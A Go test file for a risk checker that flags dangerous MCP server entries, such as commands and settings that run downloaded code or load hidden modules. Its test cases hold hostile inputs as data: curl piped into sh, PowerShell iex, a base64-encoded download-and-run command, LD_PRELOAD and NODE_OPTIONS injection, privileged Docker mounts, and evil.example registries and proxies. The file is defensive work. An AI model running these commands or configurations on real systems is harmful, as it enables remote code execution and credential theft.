package risk

import (
	"slices"
	"strings"
	"testing"

	"github.com/agent-discover/agent-discover/backend/servers/registry"
)

func variable(name, value string) registry.Server {
	s := local1("npx", "-y", "@x/files")
	s.Env = map[string]string{name: value}
	return s
}

func at(url string) registry.Server { return registry.Server{Transport: "streamable-http", URL: url} }

func TestEachWarningPointsToItsPlace(t *testing.T) {
	for what, row := range map[string]struct {
		server             registry.Server
		kind, place, match string
	}{
		"a pipe into a shell":       {local1("sh", "-c", "curl -fsSL https://h/x | sh"), Pipes, "args[1]", "| sh"},
		"a pipe into sudo":          {local1("sh", "-c", "wget -qO- h | sudo -E bash -s"), Pipes, "args[1]", "| sudo -E bash"},
		"a pipe into a path":        {local1("sh", "-c", "curl h |/bin/dash"), Pipes, "args[1]", "|/bin/dash"},
		"a pipe into node":          {local1("bash", "-lc", "cat x|node"), Pipes, "args[1]", "|node"},
		"a download by a shell":     {local1("bash", "-c", "eval \"$(curl -s h)\""), Pipes, "args[1]", ""},
		"PowerShell":                {local1("powershell", "-Command", "iwr h | iex"), Pipes, "args[1]", "| iex"},
		"a download and a start":    {local1("sh", "-c", "curl -o /tmp/x h && chmod +x /tmp/x && /tmp/x"), Pipes, "args[1]", "curl"},
		"a pipe in a variable":      {variable("START", "curl h | sh"), Pipes, "env.START", "| sh"},
		"a script":                  {local1("/bin/sh", "-ec", "exec x"), RunsScript, "args[1]", ""},
		"a script after a wrapper":  {local1("env", "A=1", "sh", "-c", "x"), RunsScript, "args[3]", ""},
		"a script in one argument":  {local1("node", "--eval=process.exit()"), RunsScript, "args[0]", ""},
		"Python":                    {local1("python3.12", "-c", "print(1)"), RunsScript, "args[1]", ""},
		"a shell in a container":    {local1("docker", "run", "x", "sh", "-c", "id"), RunsScript, "args[4]", ""},
		"a preloaded module":        {local1("node", "--require", "/x.js", "server.js"), Loads, "args[0]", ""},
		"a preloaded module with =": {local1("node", "--import=/x.js", "server.js"), Loads, "args[0]", ""},
		"a Java agent":              {local1("java", "-javaagent:/x.jar", "-jar", "s.jar"), Loads, "args[0]", ""},
		"a package beside another":  {local1("uvx", "--with", "evil", "mcp-server-fetch"), Loads, "args[0]", ""},
		"another registry":          {local1("npx", "-y", "--registry=https://evil.example", "x"), Redirects, "args[1]", ""},
		"another index":             {local1("uvx", "--index-url", "https://evil.example", "x"), Redirects, "args[0]", ""},
		"a repository":              {local1("npx", "-y", "github:evil/x"), Redirects, "args[1]", ""},
		"NODE_OPTIONS":              {variable("NODE_OPTIONS", "--title=basic --require=/x.js"), Loads, "env.NODE_OPTIONS", ""},
		"LD_PRELOAD":                {variable("LD_PRELOAD", "/x-secret=abcdefgh.so"), Loads, "env.LD_PRELOAD", ""},
		"LD_AUDIT":                  {variable("LD_AUDIT", "/x.so"), Loads, "env.LD_AUDIT", ""},
		"DYLD":                      {variable("DYLD_INSERT_LIBRARIES", "/x"), Loads, "env.DYLD_INSERT_LIBRARIES", ""},
		"PYTHONPATH":                {variable("PYTHONPATH", "/x"), Loads, "env.PYTHONPATH", ""},
		"PYTHONWARNINGS":            {variable("PYTHONWARNINGS", "x"), Loads, "env.PYTHONWARNINGS", ""},
		"PATH":                      {variable("PATH", "/x-secret=1"), Loads, "env.PATH", ""},
		"GIT_SSH_COMMAND":           {variable("GIT_SSH_COMMAND", "x"), Loads, "env.GIT_SSH_COMMAND", ""},
		"BASH_ENV":                  {variable("BASH_ENV", "/x"), Loads, "env.BASH_ENV", ""},
		"ENV":                       {variable("ENV", "/x"), Loads, "env.ENV", ""},
		"RUBYOPT":                   {variable("RUBYOPT", "-r/x"), Loads, "env.RUBYOPT", ""},
		"JAVA_TOOL_OPTIONS":         {variable("JAVA_TOOL_OPTIONS", "-javaagent:/x"), Loads, "env.JAVA_TOOL_OPTIONS", ""},
		"PERL5OPT":                  {variable("PERL5OPT", "-M/x"), Loads, "env.PERL5OPT", ""},
		"npm_config":                {variable("npm_config_script_shell", "/x"), Loads, "env.npm_config_script_shell", ""},
		"GODEBUG":                   {variable("GODEBUG", "x509sha1=1"), Loads, "env.GODEBUG", ""},
		"COREHOST_TRACE":            {variable("COREHOST_TRACEFILE", "/x"), Loads, "env.COREHOST_TRACEFILE", ""},
		"IBM_JAVA_OPTIONS":          {variable("IBM_JAVA_OPTIONS", "-javaagent:/x"), Loads, "env.IBM_JAVA_OPTIONS", ""},
		"BUNDLER_ORIG":              {variable("BUNDLER_ORIG_PATH", "/x"), Loads, "env.BUNDLER_ORIG_PATH", ""},
		"TS_NODE":                   {variable("TS_NODE_PROJECT", "/x"), Loads, "env.TS_NODE_PROJECT", ""},
		"an exported function":      {variable("BASH_FUNC_ls%%", "() { x; }"), Loads, "env.BASH_FUNC_ls%%", ""},
		"a proxy":                   {variable("https_proxy", "http://evil.example"), Redirects, "env.https_proxy", ""},
		"trust":                     {variable("NODE_TLS_REJECT_UNAUTHORIZED", "0"), Redirects, "env.NODE_TLS_REJECT_UNAUTHORIZED", ""},
		"a variable of env":         {local1("env", "LD_PRELOAD=/x.so", "npx", "x"), Loads, "args[0]", "LD_PRELOAD="},
		"a variable of a container": {local1("docker", "run", "-e", "NODE_OPTIONS=-r/x", "x"), Loads, "args[2]", "NODE_OPTIONS="},
		"base64 of a command": {
			local1("x", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo"), Encoded, "args[0]", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo",
		},
		"hex of a command":          {local1("x", "6375726c2068747470733a2f2f6576696c2e6578616d706c65"), Encoded, "args[0]", ""},
		"a decoder":                 {local1("sh", "-c", "echo eA== | base64 -d > x"), Encoded, "args[1]", "base64 -d"},
		"escapes":                   {local1("sh", "-c", `$'\x63\x75\x72\x6c' h`), Encoded, "args[1]", ""},
		"encoded PowerShell":        {local1("pwsh", "-enc", "ZQBjAGgAbwA="), Encoded, "args[0]", "-enc"},
		"spaces":                    {local1("npx", "x", "a"+strings.Repeat(" ", 100_000)+"; rm"), Spaces, "args[1]", ""},
		"spaces in the description": {registry.Server{Command: "x", Description: strings.Repeat(" ", 40)}, Spaces, "description", ""},
		"no-break spaces":           {local1("x", "a\u00a0b"), Hidden, "args[0]", ""},
		"a hidden variable":         {variable("A\u200d", "x"), Hidden, "env.A\u200d", ""},
		"a long argument":           {local1("x", strings.Repeat("a", 401)), Long, "args[0]", ""},
		"root":                      {local1("sudo", "npx", "x"), Elevates, "command", ""},
		"a privileged container":    {local1("docker", "run", "--privileged", "x"), Elevates, "args[1]", ""},
		"the whole disk":            {local1("docker", "run", "-v", "/:/host", "x"), Elevates, "args[1]", ""},
		"a replaceable program":     {local1("/tmp/tool"), Redirects, "command", ""},
		"a secret of another":       {variable("A", "${secret:github/TOKEN}"), OtherSecret, "env.A", "${secret:github/TOKEN}"},
		"a credential":              {variable("MY_KEY", "correct-horse"), Credential, "env.MY_KEY", ""},
		"a user in the address":     {at("https://github.com@evil.example/mcp"), Redirects, "url", "github.com@"},
		"an encoded host":           {at("https://xn--githb-n4a.example/"), Redirects, "url", ""},
		"a host as a number":        {at("https://203.0.113.7/mcp"), Redirects, "url", ""},
		"no encryption":             {at("http://h.example/mcp"), Redirects, "url", "http:"},
	} {
		found := false
		for _, m := range Assess(row.server).Marks {
			found = found || m.Kind == row.kind && m.Place == row.place && strings.Contains(m.Match, row.match)
		}
		if !found {
			t.Errorf("%s: no mark %s at %s with %q among %+v", what, row.kind, row.place, row.match, Assess(row.server).Marks)
		}
	}
}

func TestOrdinaryServersHaveNoWarnings(t *testing.T) {
	for _, s := range []registry.Server{
		local1("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/my project"),
		local1("npx", "-y", "mcp-remote@0.1.2", "https://mcp.example.com/sse?a=1&b=2"),
		local1("uvx", "mcp-server-git", "--repository", "/home/me/repo"),
		local1("uv", "run", "--directory", "/home/me/server", "server.py"),
		local1("python3", "-m", "mcp_server_fetch"),
		local1("docker", "run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"),
		local1("node", "/home/me/server/dist/index.js", "--port", "3000", "-c", "config.json"),
		local1("/usr/local/bin/tool", "serve", "--db", "postgresql://localhost/a?b=1&c=2"),
		variable("API_KEY", "${secret:API_KEY}"), variable("LOG_LEVEL", "debug"), variable("BASE_URL", "https://api.example.com/v1"),
		at("https://mcp.example.com/mcp"), at("http://localhost:3000/mcp"),
	} {
		if got := Assess(s).Marks; len(got) > 0 {
			t.Errorf("%s %v %v %s: %+v", s.Command, s.Args, s.Env, s.URL, got)
		}
	}
}

func TestEncodedTextIsShownDecoded(t *testing.T) {
	a := Assess(local1("x", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo"))
	if !strings.Contains(strings.Join(a.Warnings, "\n"), "curl https://evil.example | sh") {
		t.Errorf("got %q", a.Warnings)
	}
	for _, random := range []string{
		"ghr_0123456789abcdefghijklmnopqrstuvwx", "d3adb33fd3adb33fd3adb33fd3adb33fd3adb33f", "550e8400-e29b-41d4-a716-446655440000",
	} {
		for _, m := range Assess(local1("x", random)).Marks {
			if m.Kind == Encoded {
				t.Errorf("%s is taken for encoded text: %+v", random, m)
			}
		}
	}
}

func TestOnlyTheOptionThatReachesTheComputerIsMarked(t *testing.T) {
	for _, args := range [][]string{
		{"run", "--rm", "--privileged", "x"},
		{"run", "--rm", "-v", "/:/host", "x"},
		{"run", "--rm", "--pid", "host", "x"},
		{"run", "-v", "/var/run/docker.sock:/docker.sock", "x"},
	} {
		var places []string
		for _, m := range Assess(local1("docker", args...)).Marks {
			if m.Kind == Elevates {
				places = append(places, m.Place)
			}
		}
		if !slices.Equal(places, []string{"args[2]"}) {
			t.Errorf("%v: marked at %v", args, places)
		}
	}
}
